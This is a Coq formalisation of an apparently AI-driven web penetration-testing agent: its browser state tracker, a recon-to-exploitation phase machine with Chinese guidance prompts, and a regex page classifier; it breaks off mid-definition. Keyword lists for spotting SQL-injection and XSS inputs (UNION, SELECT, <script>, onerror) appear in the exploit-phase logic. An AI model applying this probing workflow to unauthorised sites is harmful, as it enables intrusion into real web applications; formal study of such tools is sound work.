(** * deepulse: state tracking, page classification, recovery and probing

  A shallow embedding of the browser agent of [browser_use.py], of the phase
  machine of [modules/test_framework.py] and of the SQL-injection tester of
  [modules/testers/sql_injection.py], followed by the properties proved
  about them.

  Conventions of the embedding.
  - A Python [str] is a [string]: the UTF-8 bytes of the text.  Substring
    tests on bytes agree with substring tests on code points, [len] counts
    code points ([PyStr.len]), and [lower] acts on the ASCII letters (the
    keywords the code looks for are ASCII or uncased CJK text).
  - A Python [int] is a [Z]; [None] is the [None] of [option].
  - A call of the browser driver (Playwright), of the clock or of the
    remote model is a field of an interface record: it takes the state of
    the session and returns an [outcome] (a value or a raised exception)
    with the next state.  Every model function threads that state in the
    order of the source. *)

From Stdlib Require Import String Ascii List ZArith Lia Bool DecimalString.
Import ListNotations.
Open Scope string_scope.
Open Scope Z_scope.

Set Implicit Arguments.

(* ================================================================== *)
(** * Part I: the embedding *)
(* ================================================================== *)

(** ** Python strings *)

Module PyStr.

Definition empty : string := EmptyString.

(** The double quote, built from its code. *)
Definition dquote : string := String (ascii_of_nat 34) EmptyString.
Definition backslash : string := String (ascii_of_nat 92) EmptyString.

(** [bool(s)]: a string is truthy when it is not empty. *)
Definition truthy (s : string) : bool :=
  match s with EmptyString => false | String _ _ => true end.

(** [s.startswith(p)] *)
Definition startswith (p s : string) : bool := String.prefix p s.

(** [needle in hay] *)
Fixpoint contains (needle hay : string) : bool :=
  String.prefix needle hay
  || match hay with
     | EmptyString => false
     | String _ rest => contains needle rest
     end.

(** [any(k in hay for k in needles)] *)
Definition contains_any (needles : list string) (hay : string) : bool :=
  existsb (fun k => contains k hay) needles.

Definition is_upper (c : ascii) : bool :=
  let n := nat_of_ascii c in (Nat.leb 65 n && Nat.leb n 90)%bool.

Definition lower_char (c : ascii) : ascii :=
  if is_upper c then ascii_of_nat (nat_of_ascii c + 32) else c.

(** [s.lower()] on the ASCII letters. *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (lower_char c) (lower rest)
  end.

(** A byte that continues a UTF-8 sequence: [10xxxxxx]. *)
Definition is_continuation (c : ascii) : bool :=
  let n := nat_of_ascii c in (Nat.leb 128 n && Nat.ltb n 192)%bool.

(** [len(s)]: the number of code points. *)
Fixpoint len (s : string) : Z :=
  match s with
  | EmptyString => 0
  | String c rest => (if is_continuation c then 0 else 1) + len rest
  end.

(** The ASCII white space [str.strip()] removes. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (Nat.eqb n 32 || (Nat.leb 9 n && Nat.leb n 13) || (Nat.leb 28 n && Nat.leb n 31))%bool.

Fixpoint lstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => if is_space c then lstrip rest else s
  end.

Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest =>
      match rstrip rest with
      | EmptyString => if is_space c then EmptyString else String c EmptyString
      | r => String c r
      end
  end.

(** [s.strip()] *)
Definition strip (s : string) : string := rstrip (lstrip s).

(** [s[n:]] for an ASCII prefix of [n] bytes. *)
Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S _, EmptyString => EmptyString
  | S k, String _ rest => drop k rest
  end.

(** [s.split(' ', 1)]: the text before the first space, and the text after
    it when there is a space. *)
Fixpoint split_space_once (s : string) : string * option string :=
  match s with
  | EmptyString => (EmptyString, None)
  | String c rest =>
      if Ascii.eqb c " "%char then (EmptyString, Some rest)
      else let '(h, t) := split_space_once rest in (String c h, t)
  end.

(** [len(s.split(' '))]: one more than the number of spaces. *)
Fixpoint count_space_parts (s : string) : Z :=
  match s with
  | EmptyString => 1
  | String c rest =>
      (if Ascii.eqb c " "%char then 1 else 0) + count_space_parts rest
  end.

(** [str(n)] for an integer. *)
Definition of_Z (z : Z) : string := NilEmpty.string_of_int (Z.to_int z).

(** [sep.join(parts)] *)
Fixpoint join (sep : string) (parts : list string) : string :=
  match parts with
  | [] => EmptyString
  | [p] => p
  | p :: rest => p ++ sep ++ join sep rest
  end.

(** [s.split(newline)[0]] *)
Fixpoint first_line (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest =>
      if Ascii.eqb c (ascii_of_nat 10) then EmptyString
      else String c (first_line rest)
  end.

End PyStr.

(** ** The outcome of a call that may raise *)

Inductive outcome (A : Type) : Type :=
| Returns (a : A)
| Raises (message : string).
Arguments Returns {A} a.
Arguments Raises {A} message.

(** ** [BrowserStateTracker] *)

Module BrowserStateTracker.

(** One entry of [state_history]. *)
Record state_info := {
  url : string;
  title : string;
  timestamp : Z;
  is_stable : bool
}.

Record t := {
  url_history : list string;
  state_history : list state_info;
  last_stable_url : option string;
  max_history : Z;
  has_error : bool;
  error_details : option string;
  auto_recovery : bool;
  consecutive_errors : Z
}.

(** [__init__] *)
Definition init (max_history : Z) (auto_recovery : bool) : t :=
  {| url_history := [];
     state_history := [];
     last_stable_url := None;
     max_history := max_history;
     has_error := false;
     error_details := None;
     auto_recovery := auto_recovery;
     consecutive_errors := 0 |}.

(** [not url or url == "about:blank"] *)
Definition ignored_url (u : string) : bool :=
  (negb (PyStr.truthy u) || String.eqb u "about:blank")%bool.

(** [record_url]; [now] is the reading of [time.time()]. *)
Definition record_url (u : string) (stable : bool) (page_title : string)
    (now : Z) (s : t) : t :=
  if ignored_url u then s
  else
    let info := {| url := u; title := page_title; timestamp := now;
                   is_stable := stable |} in
    let urls := (s.(url_history) ++ [u])%list in
    let states := (s.(state_history) ++ [info])%list in
    let over := Z.of_nat (List.length urls) >? s.(max_history) in
    let urls' := if over then List.tl urls else urls in
    let states' := if over then List.tl states else states in
    if stable then
      {| url_history := urls';
         state_history := states';
         last_stable_url := Some u;
         max_history := s.(max_history);
         has_error := false;
         error_details := None;
         auto_recovery := s.(auto_recovery);
         consecutive_errors := 0 |}
    else
      {| url_history := urls';
         state_history := states';
         last_stable_url := s.(last_stable_url);
         max_history := s.(max_history);
         has_error := s.(has_error);
         error_details := s.(error_details);
         auto_recovery := s.(auto_recovery);
         consecutive_errors := s.(consecutive_errors) |}.

(** [mark_error] *)
Definition mark_error (u : string) (details : string) (now : Z) (s : t) : t :=
  let s1 :=
    {| url_history := s.(url_history);
       state_history := s.(state_history);
       last_stable_url := s.(last_stable_url);
       max_history := s.(max_history);
       has_error := true;
       error_details := Some details;
       auto_recovery := s.(auto_recovery);
       consecutive_errors := s.(consecutive_errors) + 1 |} in
  record_url u false PyStr.empty now s1.

(** [bool(self.last_stable_url)] and the like: set and not empty. *)
Definition truthy_url (o : option string) : bool :=
  match o with Some u => PyStr.truthy u | None => false end.

(** [get_recovery_url] *)
Definition get_recovery_url (s : t) : option string :=
  if truthy_url s.(last_stable_url) then s.(last_stable_url)
  else
    match List.find is_stable (List.rev (List.removelast s.(state_history))) with
    | Some st => Some st.(url)
    | None =>
        let n := List.length s.(url_history) in
        if Nat.ltb 1 n then List.nth_error s.(url_history) (n - 2)
        else List.hd_error s.(url_history)
    end.

(** [should_auto_recover] *)
Definition should_auto_recover (s : t) : bool :=
  if s.(consecutive_errors) >=? 2 then true
  else (s.(has_error) && s.(auto_recovery))%bool.

(** [clear] *)
Definition clear (s : t) : t :=
  {| url_history := [];
     state_history := [];
     last_stable_url := None;
     max_history := s.(max_history);
     has_error := false;
     error_details := None;
     auto_recovery := s.(auto_recovery);
     consecutive_errors := 0 |}.

(** [get_suggestion] *)
Definition get_suggestion (s : t) : string :=
  if (s.(has_error) && truthy_url s.(last_stable_url))%bool then
    let u := match s.(last_stable_url) with Some u => u | None => PyStr.empty end in
    if s.(consecutive_errors) >=? 2 then
      "检测到连续多次错误。强烈建议使用BACK命令返回到上一个稳定页面，或使用GOTO "
      ++ u ++ "直接返回到最后一个稳定状态。"
    else
      "检测到错误。建议使用BACK命令返回到上一个稳定页面，或使用GOTO "
      ++ u ++ "直接返回到最后一个稳定状态。"
  else PyStr.empty.

(** The assignment [self.state_tracker.has_error = False] that the BACK
    command of the agent performs on the tracker. *)
Definition reset_error_flag (s : t) : t :=
  {| url_history := s.(url_history);
     state_history := s.(state_history);
     last_stable_url := s.(last_stable_url);
     max_history := s.(max_history);
     has_error := false;
     error_details := s.(error_details);
     auto_recovery := s.(auto_recovery);
     consecutive_errors := s.(consecutive_errors) |}.

(** *** Sequences of calls *)

(** The two calls that write the history. *)
Inductive call :=
| RecordUrl (u : string) (stable : bool) (page_title : string) (now : Z)
| MarkError (u : string) (details : string) (now : Z).

(** Every way the agent changes its tracker. *)
Inductive op :=
| Call (c : call)
| Clear
| ResetErrorFlag.

Definition do_call (c : call) (s : t) : t :=
  match c with
  | RecordUrl u stable page_title now => record_url u stable page_title now s
  | MarkError u details now => mark_error u details now s
  end.

Definition do_op (o : op) (s : t) : t :=
  match o with
  | Call c => do_call c s
  | Clear => clear s
  | ResetErrorFlag => reset_error_flag s
  end.

Definition run_calls (cs : list call) (s : t) : t :=
  List.fold_left (fun acc c => do_call c acc) cs s.

Definition run_ops (os : list op) (s : t) : t :=
  List.fold_left (fun acc o => do_op o acc) os s.

(** A tracker the agent can hold: a fresh one after some operations. *)
Definition reachable (s : t) : Prop :=
  exists mh ar os, s = run_ops os (init mh ar).

(** The entry a call appends, when the call is not ignored. *)
Definition entry_of (c : call) : option state_info :=
  match c with
  | RecordUrl u stable page_title now =>
      if ignored_url u then None
      else Some {| url := u; title := page_title; timestamp := now;
                   is_stable := stable |}
  | MarkError u _ now =>
      if ignored_url u then None
      else Some {| url := u; title := PyStr.empty; timestamp := now;
                   is_stable := false |}
  end.

(** The entries of the accepted calls, oldest first. *)
Fixpoint accepted (cs : list call) : list state_info :=
  match cs with
  | [] => []
  | c :: rest =>
      match entry_of c with
      | Some e => e :: accepted rest
      | None => accepted rest
      end
  end.

(** The last [n] elements of a list. *)
Definition last_n {A : Type} (n : nat) (l : list A) : list A :=
  List.skipn (List.length l - n) l.

(** *** Reading a sequence of operations *)

(** The elements after the last one that satisfies [f]; the whole list
    when none does. *)
Fixpoint after_last {A : Type} (f : A -> bool) (l : list A) : list A :=
  match l with
  | [] => []
  | x :: rest =>
      if List.existsb f rest then after_last f rest
      else if f x then rest else x :: rest
  end.

(** An operation that leaves no error pending: the stable record of an
    accepted URL, and [clear]. *)
Definition settles (o : op) : bool :=
  match o with
  | Call (RecordUrl u stable _ _) => (stable && negb (ignored_url u))%bool
  | Clear => true
  | _ => false
  end.

Definition is_mark_error (o : op) : bool :=
  match o with
  | Call (MarkError _ _ _) => true
  | _ => false
  end.

Definition is_clear (o : op) : bool :=
  match o with
  | Clear => true
  | _ => false
  end.

(** The URL an operation makes the stable one, if any. *)
Definition stable_url_of (o : op) : option string :=
  match o with
  | Call (RecordUrl u true _ _) => if ignored_url u then None else Some u
  | _ => None
  end.

(** The last element of a list of optional values that is set. *)
Definition last_set {A : Type} (l : list (option A)) : option A :=
  List.fold_left (fun acc o => match o with Some x => Some x | None => acc end) l None.

End BrowserStateTracker.

(** ** [TestFramework]: the phase machine

  [now] is the reading of [time.time()] during the call. *)

Module TestFramework.

Definition PHASE_RECON : Z := 1.
Definition PHASE_BASELINE : Z := 2.
Definition PHASE_PLANNING : Z := 3.
Definition PHASE_EXPLOIT : Z := 4.

Record mechanism := {
  mech_type : string;
  mech_description : string;
  mech_timestamp : Z
}.

Record input_point := {
  selector : string;
  context : string;
  point_timestamp : Z
}.

Record discovery := {
  description : string;
  phase : Z;
  discovery_timestamp : Z
}.

Record t := {
  current_phase : Z;
  phase_progress : Z;
  security_mechanisms : list mechanism;
  input_points : list input_point;
  last_guidance_time : Z;
  guidance_interval : Z;
  phase_intro_sent : list (Z * bool);
  discoveries : list discovery;
  command_counter : Z
}.

(** [__init__] *)
Definition init : t :=
  {| current_phase := PHASE_RECON;
     phase_progress := 0;
     security_mechanisms := [];
     input_points := [];
     last_guidance_time := 0;
     guidance_interval := 30;
     phase_intro_sent :=
       [(PHASE_RECON, true); (PHASE_BASELINE, false);
        (PHASE_PLANNING, false); (PHASE_EXPLOIT, false)];
     discoveries := [];
     command_counter := 0 |}.

Definition set_progress (v : Z) (s : t) : t :=
  {| current_phase := s.(current_phase);
     phase_progress := v;
     security_mechanisms := s.(security_mechanisms);
     input_points := s.(input_points);
     last_guidance_time := s.(last_guidance_time);
     guidance_interval := s.(guidance_interval);
     phase_intro_sent := s.(phase_intro_sent);
     discoveries := s.(discoveries);
     command_counter := s.(command_counter) |}.

Definition add_progress (d : Z) (s : t) : t :=
  set_progress (s.(phase_progress) + d) s.

(** [self.current_phase = p; self.phase_progress = 0] *)
Definition enter_phase (p : Z) (s : t) : t :=
  {| current_phase := p;
     phase_progress := 0;
     security_mechanisms := s.(security_mechanisms);
     input_points := s.(input_points);
     last_guidance_time := s.(last_guidance_time);
     guidance_interval := s.(guidance_interval);
     phase_intro_sent := s.(phase_intro_sent);
     discoveries := s.(discoveries);
     command_counter := s.(command_counter) |}.

(** [_add_security_mechanism] *)
Definition _add_security_mechanism (ty descr : string) (now : Z) (s : t) : t :=
  if List.existsb (fun m => String.eqb m.(mech_type) ty) s.(security_mechanisms)
  then s
  else
    {| current_phase := s.(current_phase);
       phase_progress := s.(phase_progress);
       security_mechanisms :=
         (s.(security_mechanisms)
          ++ [{| mech_type := ty; mech_description := descr;
                 mech_timestamp := now |}])%list;
       input_points := s.(input_points);
       last_guidance_time := s.(last_guidance_time);
       guidance_interval := s.(guidance_interval);
       phase_intro_sent := s.(phase_intro_sent);
       discoveries := s.(discoveries);
       command_counter := s.(command_counter) |}.

(** [_add_input_point] *)
Definition _add_input_point (sel ctx : string) (now : Z) (s : t) : t :=
  if List.existsb (fun p => String.eqb p.(selector) sel) s.(input_points)
  then s
  else
    {| current_phase := s.(current_phase);
       phase_progress := s.(phase_progress);
       security_mechanisms := s.(security_mechanisms);
       input_points :=
         (s.(input_points)
          ++ [{| selector := sel; context := ctx; point_timestamp := now |}])%list;
       last_guidance_time := s.(last_guidance_time);
       guidance_interval := s.(guidance_interval);
       phase_intro_sent := s.(phase_intro_sent);
       discoveries := s.(discoveries);
       command_counter := s.(command_counter) |}.

(** [_add_discovery] *)
Definition _add_discovery (descr : string) (now : Z) (s : t) : t :=
  {| current_phase := s.(current_phase);
     phase_progress := s.(phase_progress);
     security_mechanisms := s.(security_mechanisms);
     input_points := s.(input_points);
     last_guidance_time := s.(last_guidance_time);
     guidance_interval := s.(guidance_interval);
     phase_intro_sent := s.(phase_intro_sent);
     discoveries :=
       (s.(discoveries)
        ++ [{| description := descr; phase := s.(current_phase);
               discovery_timestamp := now |}])%list;
     command_counter := s.(command_counter) |}.

(** [_check_phase_transition] *)
Definition _check_phase_transition (s : t) : t :=
  if ((s.(current_phase) =? PHASE_RECON) && (s.(phase_progress) >=? 80))%bool then
    if ((Z.of_nat (List.length s.(security_mechanisms)) >=? 1)
        && (Z.of_nat (List.length s.(input_points)) >=? 2))%bool
    then enter_phase PHASE_BASELINE s
    else s
  else if ((s.(current_phase) =? PHASE_BASELINE) && (s.(phase_progress) >=? 60))%bool then
    enter_phase PHASE_PLANNING s
  else if ((s.(current_phase) =? PHASE_PLANNING) && (s.(phase_progress) >=? 70))%bool then
    enter_phase PHASE_EXPLOIT s
  else s.

(** A step of [_update_state_from_command] guarded by its [if]. *)
Definition when (b : bool) (f : t -> t) (s : t) : t := if b then f s else s.

Definition is_verb (verb cmd_type : string) : bool := String.eqb cmd_type verb.

(** The loop [for term in terms: if term in content.lower(): ...]. *)
Fixpoint plan_discoveries (terms : list string) (lowered : string) (now : Z)
    (s : t) : t :=
  match terms with
  | [] => s
  | term :: rest =>
      plan_discoveries rest lowered now
        (when (PyStr.contains term lowered)
              (_add_discovery ("计划测试" ++ term ++ "漏洞") now) s)
  end.

(** The branch of [_update_state_from_command] for the reconnaissance
    phase. *)
Definition update_recon (cmd_type cmd_content : string) (now : Z) (s : t) : t :=
  let s1 :=
    when (is_verb "THINK" cmd_type
          && (PyStr.contains "验证码" cmd_content
              || PyStr.contains "captcha" (PyStr.lower cmd_content)))%bool
         (fun x => add_progress 10 (_add_security_mechanism "captcha" "验证码保护" now x))
         s in
  let s2 :=
    when (is_verb "THINK" cmd_type
          && (PyStr.contains "csrf" (PyStr.lower cmd_content)
              || PyStr.contains "令牌" cmd_content
              || PyStr.contains "token" (PyStr.lower cmd_content)))%bool
         (fun x => add_progress 10 (_add_security_mechanism "csrf" "CSRF令牌保护" now x))
         s1 in
  let s3 :=
    when (is_verb "TYPE" cmd_type)
         (fun x => add_progress 5
                     (_add_input_point (fst (PyStr.split_space_once cmd_content))
                                       cmd_content now x))
         s2 in
  let s4 :=
    when (is_verb "GOTO" cmd_type || is_verb "CLICK" cmd_type)%bool
         (add_progress 3) s3 in
  when (is_verb "SCREENSHOT" cmd_type) (add_progress 2) s4.

Definition update_baseline (cmd_type cmd_content : string) (now : Z) (s : t) : t :=
  let s1 :=
    when (is_verb "TYPE" cmd_type && (PyStr.count_space_parts cmd_content >? 1))%bool
         (add_progress 5) s in
  let s2 :=
    when (is_verb "CLICK" cmd_type && PyStr.contains "登录" cmd_content)%bool
         (fun x => _add_discovery "尝试正常登录流程" now (add_progress 10 x)) s1 in
  when (is_verb "TYPE" cmd_type && PyStr.contains "验证码" cmd_content)%bool
       (fun x => _add_discovery "正确处理验证码" now (add_progress 8 x)) s2.

Definition update_planning (cmd_type cmd_content : string) (now : Z) (s : t) : t :=
  when (is_verb "THINK" cmd_type
        && PyStr.contains_any ["sql"; "注入"; "xss"; "csrf"; "漏洞"]
                              (PyStr.lower cmd_content))%bool
       (fun x => plan_discoveries ["sql注入"; "xss"; "csrf"; "命令注入"; "文件上传"]
                                  (PyStr.lower cmd_content) now (add_progress 10 x))
       s.

Definition update_exploit (cmd_type cmd_content : string) (now : Z) (s : t) : t :=
  let s1 :=
    when (is_verb "TYPE" cmd_type
          && PyStr.contains_any ["'"; PyStr.dquote; "--"; "UNION"; "SELECT"] cmd_content)%bool
         (fun x => _add_discovery "执行SQL注入测试" now (add_progress 5 x)) s in
  when (is_verb "TYPE" cmd_type
        && PyStr.contains_any ["<script>"; "alert"; "onerror"; "javascript:"] cmd_content)%bool
       (fun x => _add_discovery "执行XSS注入测试" now (add_progress 5 x)) s1.

(** [_update_state_from_command] *)
Definition _update_state_from_command (cmd_type cmd_content : string) (now : Z)
    (s : t) : t :=
  let s1 :=
    if s.(current_phase) =? PHASE_RECON then update_recon cmd_type cmd_content now s
    else if s.(current_phase) =? PHASE_BASELINE then update_baseline cmd_type cmd_content now s
    else if s.(current_phase) =? PHASE_PLANNING then update_planning cmd_type cmd_content now s
    else if s.(current_phase) =? PHASE_EXPLOIT then update_exploit cmd_type cmd_content now s
    else s in
  _check_phase_transition (set_progress (Z.min 100 s1.(phase_progress)) s1).

(** [get_phase_name] *)
Definition get_phase_name (p : Z) : string :=
  if p =? PHASE_RECON then "信息收集"
  else if p =? PHASE_BASELINE then "基准建立"
  else if p =? PHASE_PLANNING then "漏洞评估"
  else if p =? PHASE_EXPLOIT then "漏洞验证"
  else "未知阶段".

(** [d.get(k, default)] and [d[k] = v] on the dictionary of sent flags. *)
Fixpoint dict_get (k : Z) (default : bool) (d : list (Z * bool)) : bool :=
  match d with
  | [] => default
  | (k', v) :: rest => if k' =? k then v else dict_get k default rest
  end.

Fixpoint dict_set (k : Z) (v : bool) (d : list (Z * bool)) : list (Z * bool) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if k' =? k then (k', v) :: rest else (k', v') :: dict_set k v rest
  end.

Definition phase_intro_text (p : Z) : option string :=
  if p =? PHASE_BASELINE then Some ("
[系统] 进入" ++ get_phase_name p ++ "阶段

在这个阶段，您需要：
1. 使用有效输入验证基本功能
2. 特别注意验证码等安全机制的正确处理
3. 记录正常响应和错误响应的特征

请确保基本功能正常工作，再考虑漏洞测试。
")
  else if p =? PHASE_PLANNING then Some ("
[系统] 进入" ++ get_phase_name p ++ "阶段

在这个阶段，您需要：
1. 分析每个输入点可能存在的漏洞
2. 评估安全机制的有效性
3. 按威胁程度排序可能的漏洞
4. 制定详细的测试计划

请系统思考每个可能的漏洞点，而不是随机测试。
")
  else if p =? PHASE_EXPLOIT then Some ("
[系统] 进入" ++ get_phase_name p ++ "阶段

在这个阶段，您需要：
1. 系统执行测试计划
2. 对每个输入点尝试适当的测试向量
3. 同时正确处理验证码等安全机制
4. 收集每个漏洞的证据

请记住，漏洞测试需要在保持系统稳定的前提下进行。
")
  else None.

(** [_check_phase_intro] *)
Definition _check_phase_intro (s : t) : option string * t :=
  if negb (dict_get s.(current_phase) true s.(phase_intro_sent)) then
    (phase_intro_text s.(current_phase),
     {| current_phase := s.(current_phase);
        phase_progress := s.(phase_progress);
        security_mechanisms := s.(security_mechanisms);
        input_points := s.(input_points);
        last_guidance_time := s.(last_guidance_time);
        guidance_interval := s.(guidance_interval);
        phase_intro_sent := dict_set s.(current_phase) true s.(phase_intro_sent);
        discoveries := s.(discoveries);
        command_counter := s.(command_counter) |})
  else (None, s).

(** [_should_send_guidance] *)
Definition _should_send_guidance (now : Z) (s : t) : bool * t :=
  if now - s.(last_guidance_time) <? s.(guidance_interval) then (false, s)
  else if negb (s.(command_counter) mod 10 =? 0) then (false, s)
  else
    (true,
     {| current_phase := s.(current_phase);
        phase_progress := s.(phase_progress);
        security_mechanisms := s.(security_mechanisms);
        input_points := s.(input_points);
        last_guidance_time := now;
        guidance_interval := s.(guidance_interval);
        phase_intro_sent := s.(phase_intro_sent);
        discoveries := s.(discoveries);
        command_counter := s.(command_counter) |}).

Definition guidance_by_phase (s : t) : list string :=
  let p := s.(current_phase) in
  if p =? PHASE_RECON then
    ["继续探索网站结构，确保不遗漏任何功能点";
     "特别注意隐藏的安全机制，如请求头中的令牌";
     "已发现" ++ PyStr.of_Z (Z.of_nat (List.length s.(security_mechanisms)))
       ++ "个安全机制和" ++ PyStr.of_Z (Z.of_nat (List.length s.(input_points)))
       ++ "个输入点";
     "记住SCAN方法：勘察环境、关联信息、分析路径、决定行动"]
  else if p =? PHASE_BASELINE then
    ["确保验证所有主要功能，而不仅仅是登录功能";
     "记录系统如何处理边界情况和无效输入";
     "注意验证码刷新机制和错误处理方式";
     "记住SCAN方法：勘察环境、关联信息、分析路径、决定行动"]
  else if p =? PHASE_PLANNING then
    ["考虑不同类型的漏洞测试向量";
     "注意安全机制之间的相互作用";
     "记住规划测试顺序，从低风险测试开始";
     "记住SCAN方法：勘察环境、关联信息、分析路径、决定行动"]
  else if p =? PHASE_EXPLOIT then
    ["保持对验证码等安全机制的正确处理";
     "系统化验证每个潜在漏洞";
     "记录每个测试的详细结果";
     "记住SCAN方法：勘察环境、关联信息、分析路径、决定行动"]
  else ["继续系统化测试"].

(** [_get_guidance_message] *)
Definition _get_guidance_message (s : t) : string :=
  let l := guidance_by_phase s in
  let index := if s.(phase_progress) <? 30 then 0%nat
               else if s.(phase_progress) <? 70 then 1%nat else 2%nat in
  let index' := if Nat.leb (List.length l) index then (List.length l - 1)%nat
                else index in
  "[系统提示] " ++ List.nth index' l EmptyString.

(** [_check_event_guidance] *)
Definition _check_event_guidance (cmd_type cmd_content : string) (s : t)
    : option string :=
  if ((s.(current_phase) >=? PHASE_BASELINE) && is_verb "TYPE" cmd_type
      && PyStr.contains_any ["验证码"; "captcha"] (PyStr.lower cmd_content))%bool
  then Some "[系统反馈] 正确处理验证码，这是漏洞测试中的重要一步"
  else if ((s.(current_phase) >=? PHASE_BASELINE) && is_verb "THINK" cmd_type
           && PyStr.contains "验证码错误" cmd_content)%bool
  then Some "[系统反馈] 验证码处理失败，尝试刷新获取新验证码"
  else if ((s.(current_phase) =? PHASE_EXPLOIT) && is_verb "TYPE" cmd_type
           && PyStr.contains_any ["'"; PyStr.dquote; "--"; "UNION"; "SELECT"] cmd_content)%bool
  then Some "[系统反馈] 正在测试SQL注入，请确保同时正确处理其他安全机制"
  else if ((s.(current_phase) =? PHASE_EXPLOIT) && is_verb "TYPE" cmd_type
           && PyStr.contains_any ["<script>"; "alert"; "onerror"] cmd_content)%bool
  then Some "[系统反馈] 正在测试XSS漏洞，记得测试不同的XSS向量"
  else if (is_verb "THINK" cmd_type && (PyStr.len cmd_content >? 50)
           && PyStr.contains "验证码" cmd_content
           && negb (PyStr.contains "正确" cmd_content))%bool
  then Some "[系统反馈] 考虑在测试漏洞前先处理好验证码等安全机制"
  else None.

Definition bump_counter (s : t) : t :=
  {| current_phase := s.(current_phase);
     phase_progress := s.(phase_progress);
     security_mechanisms := s.(security_mechanisms);
     input_points := s.(input_points);
     last_guidance_time := s.(last_guidance_time);
     guidance_interval := s.(guidance_interval);
     phase_intro_sent := s.(phase_intro_sent);
     discoveries := s.(discoveries);
     command_counter := s.(command_counter) + 1 |}.

Definition nonempty (o : option string) : option string :=
  match o with
  | Some m => if PyStr.truthy m then Some m else None
  | None => None
  end.

(** [process_command]: the guidance message, if any, and the next state. *)
Definition process_command (command : string) (now : Z) (s : t)
    : option string * t :=
  if negb (PyStr.truthy command) then (None, s)
  else
    let s1 := bump_counter s in
    let '(cmd_type, rest) := PyStr.split_space_once command in
    let cmd_content := match rest with Some c => c | None => EmptyString end in
    let s2 := _update_state_from_command cmd_type cmd_content now s1 in
    let '(intro, s3) := _check_phase_intro s2 in
    match nonempty intro with
    | Some m => (Some m, s3)
    | None =>
        let '(send, s4) := _should_send_guidance now s3 in
        if send then (Some (_get_guidance_message s4), s4)
        else (nonempty (_check_event_guidance cmd_type cmd_content s4), s4)
    end.

(** A batch of commands, each with the clock reading of its call. *)
Definition run (cmds : list (string * Z)) (s : t) : t :=
  List.fold_left (fun acc c => snd (process_command (fst c) (snd c) acc)) cmds s.

End TestFramework.

(** ** The regular expressions of the page classifier

  The patterns passed to [re.search(pattern, text, re.IGNORECASE)] use
  literal text, [.*] and [[^']+] only; a pattern is the list of these
  atoms.  (The [()] that ends one of the patterns is an empty group and
  matches the empty text.) *)

Module Regex.

Inductive atom :=
| Lit (text : string)     (* literal text, letters compared without case *)
| DotStar                 (* [.*]: any run of characters other than a newline *)
| NotQuotePlus.           (* [[^']+]: one or more characters other than ' *)

Definition pattern := list atom.

Definition is_newline (c : ascii) : bool := Ascii.eqb c (ascii_of_nat 10).
Definition is_quote (c : ascii) : bool := Ascii.eqb c "'"%char.

(** [lit] is a prefix of [s], letters compared without case; the rest of
    [s] after it. *)
Fixpoint strip_prefix_nocase (lit s : string) : option string :=
  match lit, s with
  | EmptyString, _ => Some s
  | String _ _, EmptyString => None
  | String a lit', String b s' =>
      if Ascii.eqb (PyStr.lower_char a) (PyStr.lower_char b)
      then strip_prefix_nocase lit' s' else None
  end.

(** Some prefix of the text matches the atoms (with backtracking). *)
Fixpoint match_here (p : pattern) : string -> bool :=
  match p with
  | [] => fun _ => true
  | Lit lit :: rest =>
      fun s =>
        match strip_prefix_nocase lit s with
        | Some s' => match_here rest s'
        | None => false
        end
  | DotStar :: rest =>
      fix star (s : string) : bool :=
        (match_here rest s
         || match s with
            | EmptyString => false
            | String c s' => negb (is_newline c) && star s'
            end)%bool
  | NotQuotePlus :: rest =>
      fix plus (s : string) : bool :=
        match s with
        | EmptyString => false
        | String c s' => (negb (is_quote c) && (match_here rest s' || plus s'))%bool
        end
  end.

(** [re.search]: the pattern matches at some position of the text. *)
Fixpoint search (p : pattern) (s : string) : bool :=
  (match_here p s
   || match s with
      | EmptyString => false
      | String _ s' => search p s'
      end)%bool.

End Regex.

(** ** The interface of the session

  What the agent calls outside itself: the Playwright page, the clock, the
  environment and the chat endpoint.  [W] is the state of all of that. *)

Module Session.

(** What the chat endpoint's reply turns out to be when it is read:
    [response.json()] or the path [choices[0].message.content] raises
    ([Unreadable], caught by the handler around the parsing), the object
    has no [choices] or an empty list ([NoChoices]), or it carries the
    text of the answer. *)
Inductive chat_body :=
| Unreadable (message : string)
| NoChoices
| Answer (ai_response : string).

Record chat_response := {
  status_code : Z;
  text : string;
  body : chat_body
}.

(** The calls the model records, in the order they are issued. *)
Inductive call :=
| CallGoto (url : string)
| CallGoBack
| CallClick (selector : string) (timeout : Z)
| CallStatus                        (* the evaluate that reads the HTTP status *)
| CallPageContent                   (* [_get_page_content] *)
| CallBodyText                      (* the evaluate that reads the trimmed body text *)
| CallJsErrors                      (* the evaluate that reads [window.jsErrors] *)
| CallChat                          (* the POST to the chat endpoint *)
| CallOther (what : string).

Record ops (W : Type) := {
  page_url : W -> string;
  clock : W -> Z;
  goto : string -> W -> outcome unit * W;
  go_back : W -> outcome unit * W;
  click : string -> Z -> W -> outcome unit * W;
  keyboard_press : string -> W -> outcome unit * W;
  reload : W -> outcome unit * W;
  wait_for_load_state : W -> outcome unit * W;
  title : W -> outcome string * W;
  get_page_content : W -> string * W;
  take_screenshot : W -> string * W;
  evaluate_status : W -> outcome Z * W;
  evaluate_body_text : W -> outcome string * W;
  evaluate_js_errors : W -> outcome (list string) * W;
  locator_count : string -> W -> outcome Z * W;
  getenv_api_key : W -> option string;
  post_chat : string -> option string -> W -> outcome chat_response * W
}.

End Session.

(** ** [Agent]: classification, recovery and the command loop *)

Module Agent.
Section WithSession.

Variable W : Type.
Variable io : Session.ops W.

(** The fields of the agent the modelled methods read or write, the state
    of the session, and the calls issued so far.  The page exists: the
    batches run after the browser is launched. *)
Record t := {
  world : W;
  state_tracker : BrowserStateTracker.t;
  auto_recovery : bool;
  error_recovery_level : Z;
  use_vision : bool;
  test_framework : option TestFramework.t;
  messages : list (string * string);
  calls : list Session.call
}.

Definition set_tracker (tr : BrowserStateTracker.t) (a : t) : t :=
  {| world := a.(world); state_tracker := tr;
     auto_recovery := a.(auto_recovery);
     error_recovery_level := a.(error_recovery_level);
     use_vision := a.(use_vision); test_framework := a.(test_framework);
